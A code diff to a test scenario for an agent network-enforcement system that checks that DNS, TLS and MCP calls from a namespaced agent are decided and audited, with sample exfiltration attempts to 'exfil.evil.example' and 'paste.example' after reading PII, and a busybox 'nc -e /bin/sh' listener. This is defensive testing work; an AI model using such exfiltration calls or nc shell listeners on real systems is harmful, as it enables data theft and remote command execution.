@@ -3,16 +3,20 @@
 // in the guest, the node proxy address on the guest's lo, the real dataplane
 // listening there, and Lilith's programs attached in bpf-lsm mode to the agent
 // cgroup. A managed curl in the namespace is redirected, decided and audited
-// (GET allowed, POST denied); the host's other addresses (the veth's host side,
-// a listener on the node address) answer only through the proxy; a raw socket
-// is refused by the LSM hook; and when the process that heart-beats is
-// SIGKILLed the namespaced agent gets EPERM within TTL + one heartbeat.
-import { execFile, execFileSync } from 'node:child_process';
+// (GET allowed, POST denied); one managed Node agent (vm-tests/netns-agent.ts)
+// is decided and audited for DNS (attributed through the cgroup_skb record),
+// TLS (on the SNI) and MCP (per tool); the host's other addresses (the veth's
+// host side, a listener on the node address), a second namespace (forwarding
+// on, so the path exists) answer only through the proxy; a raw socket is
+// refused by the LSM hook; and when the process that heart-beats is SIGKILLed
+// the namespaced agent gets EPERM within TTL + one heartbeat.
+import { execFile, execFileSync, spawn } from 'node:child_process';
 import { cp, readFile, writeFile } from 'node:fs/promises';
 import { existsSync, realpathSync } from 'node:fs';
 import { createServer as createHttpServer } from 'node:http';
 import { createServer, type Server, type Socket } from 'node:net';
 import { basename, join } from 'node:path';
+import { fileURLToPath } from 'node:url';
 import { promisify } from 'node:util';
 import { attach, type Kernel, type KernelEvent } from '../../bpf/index.js';
 import { createAuthorizer } from '../../cedar/index.js';
@@ -25,10 +29,12 @@ import { KernelOriginResolver, startDataplane, type Dataplane } from '../../enfo
 import { readPolicyDir, toBundle } from '../../pipeline/policy-source.js';
 import { startDaemonLite } from '../../testkit/kernel-fixtures.js';
 import { makeCgroup, makePinRoot, probe, probeBinary, runProbe, sleep, type ProbeLine, type TestCgroup } from '../../testkit/kernel.js';
+import type { NetnsAgentReport, NetnsAgentSpec } from '../netns-agent.js';
+import { startMcp, startResolver, startTlsServer } from '../netns-peers.js';
 import { Checks, type ScenarioContext, type ScenarioResult } from '../scenario.js';
 
 export const description =
-  'network namespaces under BPF-LSM: a namespaced agent (veth) redirected to the node proxy, decided + audited, host addresses unreachable, fail-closed on SIGKILL';
+  'network namespaces under BPF-LSM: a namespaced agent (veth) redirected to the node proxy, decided + audited for HTTP, DNS, TLS and MCP; host addresses, a second namespace and the admin port unreachable; fail-closed on SIGKILL';
 export const bootLsm = 'bpf';
 
 const exec = promisify(execFile);
@@ -37,6 +43,10 @@ const NODE_ADDRESS = '169.254.77.1';
 const ID = 7;
 const TTL_MS = 1000;
 const HEARTBEAT_MS = 250;
+/** Namespace B's listener port (a fresh namespace: nothing else binds there). */
+const B_PORT = 45671;
+const CODER = 'spiffe://corp.example/agents/coder';
+const agentScript = join(fileURLToPath(new URL('.', import.meta.url)), '..', 'netns-agent.js');
 
 const show = (l: ProbeLine | undefined): string =>
   l
@@ -73,10 +83,17 @@ function execClosure(bin: string): string[] {
   return [bin, ...libs].map((p) => realpathSync(p));
 }
 
-/** The bundled policies with the upstream named localhost and the coder registered by the agent cgroup. */
-async function snapshotFor(root: string, dir: string, cgPath: string): Promise<PolicySnapshot> {
+/**
+ * The bundled policies with the upstream named localhost, the coder registered by the agent cgroup,
+ * and the MCP server "files" at `files`.
+ */
+async function snapshotFor(root: string, dir: string, cgPath: string, files: string): Promise<PolicySnapshot> {
   await cp(join(root, 'policies'), dir, { recursive: true });
-  const entities = JSON.parse(await readFile(join(dir, 'entities.json'), 'utf8')) as unknown[];
+  const entities = (JSON.parse(await readFile(join(dir, 'entities.json'), 'utf8')) as Array<Record<string, unknown>>).map((e) =>
+    (e.uid as { type: string }).type === 'MCPServer'
+      ? { ...e, parents: [...(e.parents as unknown[]), { type: 'Zone', id: 'allowlisted' }] }
+      : e,
+  );
   entities.push({
     uid: { type: 'Host', id: 'localhost' },
     attrs: {},
@@ -90,6 +107,7 @@ async function snapshotFor(root: string, dir: string, cgPath: string): Promise<P
   config.registrations = config.registrations
     .filter((r) => !r.spiffe_id.endsWith('/coder/node'))
     .map((r) => (r.spiffe_id.endsWith('/coder') ? { ...r, selectors: [`cgroup:${cgPath}`] } : r));
+  config.upstreams = { files: { address: files, kind: 'mcp' } };
   await writeFile(join(dir, 'lilith.json'), JSON.stringify(config));
   const src = await readPolicyDir(dir);
   const bundle = toBundle(src);
@@ -113,6 +131,8 @@ export async function run(ctx: ScenarioContext): Promise<ScenarioResult> {
   numbers.nodeUptimeAtStartMs = Math.round(process.uptime() * 1000);
   let kernel: Kernel | undefined;
   let ns: AgentNetns | undefined;
+  let nsB: AgentNetns | undefined;
+  let nodeAgent: TestCgroup | undefined;
   let agent: TestCgroup | undefined;
   let dp: Dataplane | undefined;
   let audit: FileAuditSink | undefined;
@@ -137,6 +157,24 @@ export async function run(ctx: ScenarioContext): Promise<ScenarioResult> {
     }
     cleanups.push(() => ns?.remove());
     if (addedAddress) cleanups.push(() => removeNodeAddress(NODE_ADDRESS));
+    // Namespace B, another pod on this node, with a listener on its own address. The guest
+    // forwards between its veths for the run, so the path A → B exists and only the
+    // programs stand in the way.
+    nsB = createAgentNetns('lvmnb');
+    cleanups.push(() => nsB?.remove());
+    const forwardWas = (await readFile('/proc/sys/net/ipv4/ip_forward', 'utf8')).trim();
+    await writeFile('/proc/sys/net/ipv4/ip_forward', '1');
+    cleanups.push(() => writeFile('/proc/sys/net/ipv4/ip_forward', forwardWas));
+    // busybox nc (no Node start): answers "other" and logs "hit" on stderr per connection.
+    const other = spawn(
+      '/usr/bin/nsenter',
+      [`--net=${nsB.path}`, '/usr/bin/busybox', 'nc', '-ll', '-p', String(B_PORT), '-e', '/bin/sh', '-c', 'echo hit >&2; echo other'],
+      { stdio: ['ignore', 'ignore', 'pipe'] },
+    );
+    cleanups.push(() => other.kill('SIGKILL'));
+    let otherLog = '';
+    other.stderr.on('data', (d) => (otherLog += d));
+    const otherHits = () => (otherLog.match(/hit/g) ?? []).length;
     const { stdout: links } = await exec('ip', ['-n', ns.name, '-o', 'addr', 'show', 'dev', 'eth0']);
     c.expect(
       'a namespace with a veth pair to the guest is created',
@@ -158,11 +196,29 @@ export async function run(ctx: ScenarioContext): Promise<ScenarioResult> {
     cleanups.push(() => host.close());
     const admin = await counted(NODE_ADDRESS, 'admin\n');
     cleanups.push(() => admin.close());
+    const [resolver, tlsPeer, files] = await Promise.all([
+      startResolver({ 'api.github.com': '140.82.112.5' }),
+      startTlsServer(),
+      startMcp('files', {
+        read_file: { args: ['path'], reply: 'id,name\n1,Alice Doe\n' },
+        http_post: { args: ['url', 'body'], reply: 'posted' },
+      }),
+    ]);
+    cleanups.push(
+      () => resolver.close(),
+      () => tlsPeer.close(),
+      () => files.close(),
+    );
 
     // ---- enforcer: the real dataplane on the node address, programs in bpf-lsm mode ----
     agent = makeCgroup();
     const t1 = Date.now();
-    const snapshot = await snapshotFor(ctx.projectRoot, join(ctx.workDir, 'policies'), `/${basename(agent.dir)}`);
+    const snapshot = await snapshotFor(
+      ctx.projectRoot,
+      join(ctx.workDir, 'policies'),
+      `/${basename(agent.dir)}`,
+      `127.0.0.1:${files.port}`,
+    );
     const auditPath = join(ctx.workDir, 'audit.jsonl');
     audit = new FileAuditSink(auditPath);
     const kernelRef: { k?: Kernel } = {};
@@ -171,7 +227,7 @@ export async function run(ctx: ScenarioContext): Promise<ScenarioResult> {
       origin: new KernelOriginResolver({ originalDestination: (peer) => kernelRef.k?.originalDestination(peer) ?? null }),
       audit,
       listen: { proxy: [`${NODE_ADDRESS}:0`], dns: `${NODE_ADDRESS}:0` },
-      dnsUpstream: '127.0.0.1:9',
+      dnsUpstream: `127.0.0.1:${resolver.port}`,
     });
     numbers.dataplaneMs = Date.now() - t1;
     const proxy = { address: NODE_ADDRESS, port: dp.proxyAddresses[0]!.port, dnsPort: dp.dnsAddress!.port };
@@ -184,8 +240,13 @@ export async function run(ctx: ScenarioContext): Promise<ScenarioResult> {
     numbers.attachMs = Date.now() - t2;
     kernel.onEvent((e) => events.push(e));
     kernel.registerIdentity({ cgroup: agent.dir }, ID);
-    // The exec allowlist is on (the default): the agent may run curl and map its libraries, nothing else.
-    for (const p of execClosure('/usr/bin/curl')) kernel.allowExecPath(p);
+    // The Node agent runs in a cgroup below the agent's (the same SPIFFE ID by the cgroup
+    // selector), registered as a JIT runtime: W^X stays on for curl and the probes.
+    nodeAgent = makeCgroup(agent.dir);
+    kernel.registerIdentity({ cgroup: nodeAgent.dir }, ID + 1, { jit: true });
+    // The exec allowlist is on (the default): the agent may run curl and node and map their
+    // libraries, nothing else.
+    for (const p of new Set([...execClosure('/usr/bin/curl'), ...execClosure(process.execPath)])) kernel.allowExecPath(p);
     kernel.startHeartbeat();
     // The process whose SIGKILL is measured below starts now, while the agent's requests run
     // (it re-adopts the pinned programs and heart-beats too; TTL 1 s from here on).
@@ -209,6 +270,36 @@ export async function run(ctx: ScenarioContext): Promise<ScenarioResult> {
     );
 
     const nsenter = (argv: string[]): string[] => ['/usr/bin/nsenter', `--net=${ns!.path}`, ...argv];
+    // ---- DNS, TLS and MCP from one managed Node agent in the namespace: it starts now (a Node
+    // start takes many seconds under TCG) and runs beside the curl requests and probes below ----
+    const spec: NetnsAgentSpec = {
+      dns: [
+        { server: '8.8.8.8', name: 'api.github.com' },
+        { server: '9.9.9.9', name: 'exfil.evil.example' },
+      ],
+      tls: { address: `127.0.0.1:${tlsPeer.port}`, caPath: tlsPeer.caPath, snis: ['localhost', 'exfil.evil.example'] },
+      mcp: {
+        url: `http://127.0.0.1:${files.port}/mcp`,
+        calls: [
+          { tool: 'read_file', args: { path: '/data/customers.csv' } },
+          { tool: 'http_post', args: { url: 'https://paste.example', body: 'x' } },
+        ],
+      },
+    };
+    const t4 = Date.now();
+    const [nodeBin, ...nodeArgs] = nsenter([
+      probeBinary(false),
+      'cg',
+      nodeAgent.procs,
+      'exec',
+      process.execPath,
+      agentScript,
+      JSON.stringify(spec),
+    ]);
+    let agentDoneAt = 0;
+    const agentPending = exec(nodeBin!, nodeArgs, { timeout: 90_000 })
+      .catch((e: { stdout?: string; stderr?: string; message: string }) => ({ stdout: e.stdout ?? '', stderr: e.stderr ?? e.message }))
+      .finally(() => (agentDoneAt = Date.now()));
     const managed = (argv: string[]): string[] => nsenter([probeBinary(false), 'cg', agent!.procs, ...argv]);
     const inAgent = async (argv: string[]): Promise<{ stdout: string; stderr: string }> => {
       const [bin, ...rest] = managed(['exec', ...argv]);
@@ -232,7 +323,15 @@ export async function run(ctx: ScenarioContext): Promise<ScenarioResult> {
       unmanaged.reply?.trim() === 'host',
       show(unmanaged),
     );
+    const unmanagedB = await probe(nsenter([probeBinary(false), 'connect', nsB.agentAddress, String(B_PORT)]));
+    c.expect(
+      "unmanaged in the namespace: namespace B's listener answers (the path A → B exists)",
+      unmanagedB.reply?.trim() === 'other',
+      show(unmanagedB),
+    );
+    for (let i = 0; i < 40 && otherHits() === 0; i++) await sleep(50); // its stderr arrives on its own time
     const baseHits = host.hits();
+    const baseOther = otherHits();
 
     // ---- HTTP decided and audited ----
     const t3 = Date.now();
@@ -254,34 +353,112 @@ export async function run(ctx: ScenarioContext): Promise<ScenarioResult> {
     c.expect(
       'both requests audited with the destination recovered across the namespace and the cgroup identity',
       http.length === 2 &&
-        http.every((e) => e.destination === `127.0.0.1:${httpPort}` && e.spiffe_id === 'spiffe://corp.example/agents/coder') &&
+        http.every((e) => e.destination === `127.0.0.1:${httpPort}` && e.spiffe_id === CODER) &&
         http[0]!.decision === 'allow' &&
         http[1]!.decision === 'deny',
       JSON.stringify(http.map((e) => [e.action, e.decision, e.destination, e.spiffe_id, e.pid])),
     );
 
-    // ---- other host addresses: only the proxy answers ----
+    const agentRun = await agentPending;
+    numbers.nodeAgentMs = agentDoneAt - t4;
+    let rep: NetnsAgentReport | undefined;
+    try {
+      rep = JSON.parse(agentRun.stdout.trim().split('\n').at(-1) ?? '') as NetnsAgentReport;
+    } catch {}
+    if (rep) numbers.nodeAgentParts = JSON.stringify(rep.ms);
+    c.expect(
+      'the managed Node agent ran in the namespace (node allowlisted, JIT identity) and reported',
+      rep !== undefined,
+      `${agentRun.stdout}${agentRun.stderr}`.slice(0, 2000),
+    );
+    const after = await auditEvents();
+    const byAgent = (protocol: string) => after.filter((e) => e.protocol === protocol && e.pid === rep?.pid);
+
+    // DNS: the redirected datagram is attributed by the cgroup_skb egress record.
+    c.expect(
+      'DNS in the namespace: the allowed name is answered, the denied one gets NXDOMAIN',
+      rep?.dns[0]?.rcode === 0 && rep.dns[0].answers === 1 && rep.dns[1]?.rcode === 3,
+      JSON.stringify(rep?.dns),
+    );
+    c.expect(
+      'DNS: only the allowed query reached the resolver',
+      resolver.seen.includes('api.github.com') && !resolver.seen.includes('exfil.evil.example'),
+      JSON.stringify(resolver.seen),
+    );
+    const dns = byAgent('dns');
+    c.expect(
+      "DNS: both queries audited with the agent's pid, its SPIFFE ID and the original resolver",
+      JSON.stringify(dns.map((e) => [e.resource, e.decision, e.spiffe_id, e.destination])) ===
+        JSON.stringify([
+          ['Host::"api.github.com"', 'allow', CODER, '8.8.8.8:53'],
+          ['Host::"exfil.evil.example"', 'deny', CODER, '9.9.9.9:53'],
+        ]),
+      JSON.stringify(after.filter((e) => e.protocol === 'dns').map((e) => [e.resource, e.decision, e.spiffe_id, e.pid, e.destination])),
+    );
+
+    // TLS: decided on the SNI, relayed intact (the agent verifies the server's own certificate).
+    c.expect(
+      'TLS in the namespace: SNI localhost is relayed (certificate verified, reply intact), SNI exfil.evil.example is refused',
+      rep?.tls[0]?.authorized === true &&
+        rep.tls[0].reply === 'hello GET /hello' &&
+        rep.tls[1]?.authorized === undefined &&
+        !rep.tls[1]?.reply,
+      JSON.stringify(rep?.tls),
+    );
+    c.expect('TLS: the server accepted only the allowed connection', tlsPeer.connections() === 1, `${tlsPeer.connections()} connections`);
+    const tlsEv = byAgent('tls');
+    c.expect(
+      'TLS: both connections audited with the SNI host, the original destination and the SPIFFE ID',
+      JSON.stringify(tlsEv.map((e) => [e.resource, e.decision, e.destination, e.spiffe_id])) ===
+        JSON.stringify([
+          ['Host::"localhost"', 'allow', `127.0.0.1:${tlsPeer.port}`, CODER],
+          ['Host::"exfil.evil.example"', 'deny', `127.0.0.1:${tlsPeer.port}`, CODER],
+        ]),
+      JSON.stringify(after.filter((e) => e.protocol === 'tls').map((e) => [e.resource, e.decision, e.destination, e.spiffe_id, e.pid])),
+    );
+
+    // MCP: the SDK client's tool calls, decided per tool (http_post after reading PII: taint).
+    c.expect(
+      'MCP in the namespace: read_file is answered, http_post is refused by taint-blocks-egress',
+      /Alice Doe/.test(rep?.mcp[0]?.text ?? '') && /taint-blocks-egress/.test(rep?.mcp[1]?.error ?? ''),
+      JSON.stringify(rep?.mcp),
+    );
+    c.expect('MCP: only read_file reached the server', JSON.stringify(files.calls) === '["read_file"]', JSON.stringify(files.calls));
+    const mcpEv = byAgent('mcp').filter((e) => e.action !== 'Action::"mcp_session"');
+    c.expect(
+      'MCP: both tool calls audited with the tool, the decision and the SPIFFE ID',
+      JSON.stringify(mcpEv.map((e) => [e.action, e.decision, e.spiffe_id])) ===
+        JSON.stringify([
+          ['Action::"read_file"', 'allow', CODER],
+          ['Action::"http_post"', 'deny', CODER],
+        ]),
+      JSON.stringify(after.filter((e) => e.protocol === 'mcp').map((e) => [e.action, e.decision, e.spiffe_id, e.pid])),
+    );
+
+    // ---- other host addresses and namespace B: only the proxy answers ----
     for (const [what, addr, port] of [
       ['host side of the veth', ns.hostAddress, host.port],
       ['node address, another port (admin)', NODE_ADDRESS, admin.port],
+      ["namespace B's listener", nsB.agentAddress, B_PORT],
       ['a public address', '198.51.100.7', 80],
     ] as const) {
       const r = await probe(managed(['connect', addr, String(port)]));
       c.expect(
         `managed connect to the ${what} ${addr}:${port} reaches the proxy, never the listener`,
-        r.peer === `${addr}:${port}` && !/^(host|admin)$/.test(r.reply?.trim() ?? ''),
+        r.peer === `${addr}:${port}` && !/^(host|admin|other)$/.test(r.reply?.trim() ?? ''),
         show(r),
       );
     }
+    await sleep(200); // a hit in namespace B would be logged by then
     c.expect(
-      'the host and admin listeners saw no managed connection',
-      host.hits() === baseHits && admin.hits() === 0,
-      `host ${host.hits() - baseHits}, admin ${admin.hits()}`,
+      'the host, admin and namespace B listeners saw no managed connection',
+      host.hits() === baseHits && admin.hits() === 0 && otherHits() === baseOther,
+      `host ${host.hits() - baseHits}, admin ${admin.hits()}, namespace B ${otherHits() - baseOther}`,
     );
     const tcp = (await auditEvents()).filter((e) => e.protocol === 'tcp');
     c.expect(
       'each attempt was decided (deny) and audited',
-      [`${ns.hostAddress}:${host.port}`, `${NODE_ADDRESS}:${admin.port}`].every((d) =>
+      [`${ns.hostAddress}:${host.port}`, `${NODE_ADDRESS}:${admin.port}`, `${nsB.agentAddress}:${B_PORT}`].every((d) =>
         tcp.some((e) => e.destination === d && e.decision === 'deny'),
       ),
       JSON.stringify(tcp.map((e) => [e.destination, e.decision])),
@@ -336,6 +513,7 @@ export async function run(ctx: ScenarioContext): Promise<ScenarioResult> {
     c.expect('scenario ran to the end', false, (err as Error).stack ?? String(err));
   } finally {
     kernel?.detachAll();
+    nodeAgent?.remove();
     agent?.remove();
     for (const f of cleanups.reverse()) {
       try {
